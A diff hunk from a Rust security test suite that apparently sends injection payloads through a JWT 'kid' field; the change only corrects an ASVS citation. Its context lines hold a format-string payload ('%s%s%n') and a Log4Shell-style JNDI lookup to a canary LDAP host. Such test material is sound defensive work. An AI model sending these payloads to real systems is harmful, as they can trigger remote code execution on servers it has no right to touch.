@@ -173,7 +173,7 @@ fn injections() -> Vec<Case> {
             "Names of keys are logged. A logger that fills in templates has let strangers run \
              code in millions of servers.",
         )
-        .cite([cve("2021-44228"), rfc(8725, "3.10"), asvs("16.5.1")])
+        .cite([cve("2021-44228"), rfc(8725, "3.10"), asvs("16.4.1")])
         .sends([
             variant("printf", kid("%s%s%n")),
             variant("jndi", kid(text("${jndi:ldap://{canary_host}{canary_path}}"))).no_fetch(),
